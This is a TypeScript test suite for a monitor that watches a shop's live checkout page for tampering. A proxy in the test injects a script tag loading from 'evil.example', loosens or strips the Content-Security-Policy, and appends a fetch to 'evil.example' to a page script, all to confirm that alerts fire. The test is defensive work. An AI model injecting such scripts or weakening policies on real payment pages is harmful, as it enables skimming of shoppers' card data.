// The watch over the live page, with somebody between the payers and the gateway who changes it.

import assert from 'node:assert/strict';
import { createServer, type ServerResponse } from 'node:http';
import { after, describe, test } from 'node:test';
import type { Context } from '#kit/context';
import { pageScripts } from '../../src/commerce/checkout/page/index.ts';
import { lastPageCheck } from '../../src/commerce/checkout/page-checks.store.ts';
import { watchLivePage } from '../../src/commerce/checkout/watch-page.ts';
import { closeServer, listenOnLoopback } from '../browser/recording-proxy.ts';
import { openShop } from '../support/payments.ts';

const { gateway } = await openShop();

/** What is done to an answer on its way. */
type Tampering = (path: string, headers: Headers, body: string) => string;
const honest: Tampering = (_path, _headers, body) => body;
let tamper = honest;

const pass = async (path: string, response: ServerResponse): Promise<void> => {
  const answer = await fetch(`http://127.0.0.1:${gateway.port}${path}`);
  const headers = new Headers(answer.headers);
  const body = tamper(path, headers, await answer.text());
  for (const name of ['content-length', 'content-encoding', 'connection', 'keep-alive']) {
    headers.delete(name);
  }
  response.writeHead(answer.status, Object.fromEntries(headers)).end(body);
};
const proxy = createServer((request, response) => void pass(request.url ?? '', response));
const port = await listenOnLoopback(proxy);
after(() => closeServer(proxy));

/** What the watch finds, with what it says of it. */
const found = async (doing: Tampering): Promise<readonly string[] | null> => {
  tamper = doing;
  const alerts: string[] = [];
  const context: Context = {
    ...gateway.context,
    log: { ...gateway.context.log, error: (_, message) => void alerts.push(message) },
  };
  await watchLivePage(context, `http://127.0.0.1:${port}`);
  const differences = await lastPageCheck(gateway.context.database);
  assert.equal(alerts.length, (differences?.length ?? 0) > 0 ? 1 : 0, 'an alert for what differs');
  return differences;
};

describe('the watch over the live page', () => {
  const script = pageScripts[0]?.path ?? '';

  test('is content with the page of this release', async () => {
    assert.deepEqual(await found(honest), []);
  });

  for (const [what, differences, doing] of [
    [
      'a script that is put in',
      ['body'],
      (_path, _headers, body) =>
        body.replace('</head>', '<script src="https://evil.example/x.js"></script></head>'),
    ],
    [
      'a policy that lets more in',
      ['header Content-Security-Policy'],
      (path, headers, body) => {
        const policy = headers.get('content-security-policy') ?? '';
        if (path === '/c/monitor')
          headers.set(
            'content-security-policy',
            policy.replace("connect-src 'self'", 'connect-src *'),
          );
        return body;
      },
    ],
    [
      'a policy that is taken away',
      ['header Content-Security-Policy', 'body'],
      (_path, headers, body) => {
        headers.delete('content-security-policy');
        return body;
      },
    ],
    [
      'a script that is changed',
      [`script ${script}`],
      (path, _headers, body) => (path === script ? `${body}\nfetch('https://evil.example')` : body),
    ],
  ] as const satisfies readonly (readonly [string, readonly string[], Tampering])[]) {
    test(`raises an alert for ${what}, and is content again without it`, async () => {
      assert.deepEqual(await found(doing), differences);
      assert.deepEqual(await found(honest), []);
    });
  }
});
